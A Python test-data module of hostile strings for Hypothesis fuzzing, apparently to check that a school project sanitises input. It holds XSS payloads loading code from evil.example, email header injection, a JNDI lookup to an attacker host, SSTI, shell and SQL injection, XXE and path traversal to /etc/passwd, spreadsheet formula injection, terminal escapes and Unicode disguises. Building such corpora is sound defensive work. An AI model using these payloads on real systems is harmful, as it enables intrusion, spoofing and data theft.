"""Strings that have broken mails, pages, parsers, logs and terminals; and the letters hypothesis mixes from.

Written for this project, by what each does. None says anything about anybody.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Mapping
from types import MappingProxyType
from typing import Final

from hypothesis import strategies as st

MARKUP: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script >alert`1`</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></noscript></template></title></style><img src=x onerror=alert(1)>",
    '"><img src=https://evil.example/p.png onerror=alert(1)>',
    "'><img src='https://evil.example/p.png'>",
    "<img src=x:x onerror=alert(1)//",
    "<img/src='https://evil.example/p.png'/onload=alert(1)>",
    "<IMG SRC=&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<div style=width:expression(alert(1))>x</div>",
    "<body background=//evil.example/x.png onload=alert(1)>",
    "<table background=//evil.example/x.png><td background=//evil.example/y.png>",
    "<video poster=//evil.example/x.png><source src=//evil.example/x.mp4></video>",
    "<audio src=//evil.example/x.ogg autoplay>",
    "<input type=image src=//evil.example/x.png autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>mine</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href='javascript:alert(1)'>Open the post</a>",
    '<a href="data:text/html,<script>alert(1)</script>">Open the post</a>',
    "<a href='https://evil.example'>Reply with mine</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if mso]><v:rect href='//evil.example'/><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    "</p></blockquote></div></body></html><p>after the end",
    "<plaintext>",
    "<wbr><br><h1>URGENT</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x&#x3e;",
    "&nbsp;&zwnj;&rlm;&shy;",
    "&bogus; &#0; &#xD800; &#1114112; &#99999999999;",
    "<a\x00 href=x>\x00</a>",
    "<<a|\x00a>>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    '\';alert(String.fromCharCode(88))//";alert(1)//--></SCRIPT>">',
    "` onmouseover=alert(1) x=`",
    '" style="position:fixed;inset:0" x="',
    "' autofocus onfocus='alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
)
HEADERS: Final = (
    "a\r\nBcc: victim@evil.example",
    "a\nBcc: victim@evil.example",
    "a\rBcc: victim@evil.example",
    "a\r\n\r\n<html>another body</html>",
    "a\r\n Bcc: folded@evil.example",
    "a\n\tX-Folded: yes",
    "a\x0bBcc: victim@evil.example",
    "a\x0cBcc: victim@evil.example",
    "a\x1cBcc: x\x1dBcc: y\x1eBcc: z",
    "a\x85Bcc: victim@evil.example",
    "a\u2028Bcc: victim@evil.example\u2029Bcc: other@evil.example",
    "%0d%0aBcc:%20victim@evil.example",
    "=?utf-8?q?a=0D=0ABcc:_victim@evil.example?=",
    "=?utf-8?b?YQ0KQmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?=",
    "=?iso-2022-jp?B?GyRC?=",
    "=?utf-8?Q?=00?= =?x?y?z?=",
    "=?utf-8?q?" + "=41" * 400 + "?=",
    '"quoted" <other@evil.example>, more@evil.example; group: a, b;',
    "(comment (nested) <a@b>",
    "undisclosed-recipients:;",
    "--===============boundary==\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "\r\n.\r\nMAIL FROM:<x@evil.example>\r\n",
    "\n.\n",
    ".",
    "..",
    "From somebody Mon Nov 23 10:00:00 2026",
    "Subject: another subject",
    "x" * 5_000,
    "\xe9" * 3_000,
    "\U0001f600" * 700,
    "ab " * 2_000,
    "\r\n" * 500,
)
HIDDEN: Final = (
    "\u202eexe.fdp\u202c",
    "\u202dleft\u202e\u202dstacked\u202e",
    "\u2066\u2067\u2068never closed",
    "\u2069\u2069\u202c\u202cclosed, never opened",
    "\u061c\u200e\u200f\u202a\u202b",
    "zero\u200bwidth\u200cjoin\u200der\u2060word\ufeff",
    "\ufeffmark at the start",
    "soft\u00adhyphen\u00adated",
    "\u180e\u034f\u115f\u1160\u3164\uffa0\u2800blank but not",
    "\U000e0001\U000e0068\U000e0069\U000e007ftags",
    "\ufe0f\ufe0e\U000e0100selectors",
    "\x00NUL\x00in\x00between",
    "\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x7f",
    "\x80\x81\x84\x86\x9b31mC1\x9c",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b[1;1H\x1bP+q544e\x1b\\",
    "\b\b\b\b\b\b\berased",
    "\ud800lone \udfff halves \ude00\ud83d",
    "\ufffe\uffff\U0001ffff\U0010ffff",
    "\ue000private\U000f0000use",
    "\ufff9base\ufffanote\ufffb",
    "Z\u0351\u036b\u0343" * 120,
    "a" + "\u0300" * 2_000,
    "\u0600\u0601\u06dd\u08e2arabic signs",
    "\u2028\u2029\u0085\v\f",
)
TEMPLATES: Final = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{% include '/etc/passwd' %}{# remark #}",
    "{%- raw -%}{{ v.subject }}{%- endraw -%}",
    "{{ v.subject|safe }}{{ config }}{{ self }}",
    "{0.__class__.__init__.__globals__}",
    "{v.subject!r:>{width}}{}{0}{-1}{{}}",
    "{",
    "}",
    "%(x)s %s %d %n %9999999999d %",
    "%%(password)s%%",
    "${jndi:ldap://evil.example/x} ${7*7} $x $$ ${HOME}",
    "#{7*7} <%= 7*7 %> *{7*7} [[7*7]] @{7*7} ~{7*7}",
    "`id` $(id) | id ; id && id\n id",
    "\\x3cscript\\x3e \\u003cscript\\u003e \\0 \\N{BELL} \\",
    "'; DROP TABLE mention; --",
    'Robert"); DELETE FROM incident WHERE ("1"="1',
    "../../../../etc/passwd\x00.txt",
    "file:///etc/passwd",
    "=1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
LINKS: Final = (
    "javascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://holmnook.example@evil.example/",
    "https://holmnook.example\\@evil.example/",
    "https://evil.example#@holmnook.example/",
    "https://holmnook.ex\u0430mple/",
    "https://xn--hlmnook-9ig.example/",
    "https://evil.example/\u202egpj.exe",
    "https://evil.example/%0d%0aBcc:%20x",
    "https://evil.example/\r\nBcc: x",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "https://[::1]/",
    "https://[::1",
    "https://127.0.0.1\u3002evil.example/",
    "https://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    "https://evil.example:99999/",
    "https://evil.example/" + "a" * 5_000,
    "https://" + "a." * 200 + "example/",
    "http://0x7f.1/",
    "mailto:a@b.example?bcc=c@d.example&body=x",
    "tel:0900123456",
    "ftp://evil.example/x",
    "https://evil.example/?a=1&lt=2&amp;copy=3",
)
ODD: Final = (
    "",
    " ",
    "\t\n ",
    "null",
    "undefined",
    "NaN",
    "Infinity",
    "-1",
    "1e999",
    "0x1F",
    "true",
    "[]",
    "\u0660\u0661\u0662",
    "\ufdfd" * 50,
    "\U0001d573\U0001d594\U0001d591\U0001d592 mathematical",
    "\u1d34\u1d3c\u1d38\u1d39 raised",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f a flag",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 a family",
    "\u05d0\u05d1\u05d2 and \u0627\u0644\u0639 right to left",
    "\u0130\u0131\u00df\ufb03\u1e9e case traps",
    "\uac00\u1100\u1161 jamo",
    "\u0e01\u0e34\u0e4d\u0e33 thai",
)
ALL: Final = MARKUP + HEADERS + HIDDEN + TEMPLATES + LINKS + ODD

DISGUISES: Final[Mapping[str, str]] = MappingProxyType(
    {
        "plain": "Holm Nook Primary",
        "typographer's quote and capitals": "HOLM NOOK PRIMARY\u2019S",
        "zero-width": "Ho\u200blm No\u200dok Prim\u2060ary",
        "Cyrillic": "H\u043elm N\u043e\u043ek Prim\u0430ry",
        "soft hyphen": "Holm\u00ad No\u00adok Pri\u00admary",
        "combining": "H\u0336o\u0336l\u0336m\u0336 N\u0336o\u0336o\u0336k\u0336 Primary",
        "tag characters": "Holm\U000e0041 Nook\U000e0042 Primary\U000e007f",
        "full width": "\uff28\uff4f\uff4c\uff4d \uff2e\uff4f\uff4f\uff4b \uff30\uff52\uff49\uff4d\uff41\uff52\uff59",
        "mathematical": "\U0001d407\U0001d428\U0001d425\U0001d426 \U0001d40d\U0001d428\U0001d428\U0001d424"
        " \U0001d40f\U0001d42b\U0001d422\U0001d426\U0001d41a\U0001d42b\U0001d432",
        "no-break and odd blanks": "Holm\u00a0Nook\u2003Primary",
        "circled": "\u24bd\u24de\u24db\u24dc \u24c3\u24de\u24de\u24da Primary",
        "entities": "Holm&nbsp;N&#111;ok&#32;Primary",
        "turned by an override": "\u202eyramirP kooN mloH\u202c",
    }
)
"""Thirteen ways to write the school's name."""

_PIECES = (
    *ALL,
    *DISGUISES.values(),
    "Holm Nook",
    "<",
    ">",
    '"',
    "'",
    "&",
    "\r\n",
    "{{",
    "}}",
    "\u202e",
    "\u200b",
)

ANY_CHARACTER = st.characters(exclude_categories=())
WORDS = st.lists(
    st.one_of(st.sampled_from(_PIECES).map(lambda piece: piece[:400]), st.text(ANY_CHARACTER, max_size=20)),
    max_size=6,
).map("".join)
"""Anything: pieces of the above, and every character that Unicode has, halves included."""


def unseen(text: str) -> set[str]:
    """Characters of ``text`` that nobody sees, or that turn other text round; a flag's tags aside."""
    return {
        c
        for c in text
        if c not in "\n\r\t"
        and (
            unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
            and not "\U000e0020" <= c <= "\U000e007f"
        )
    }
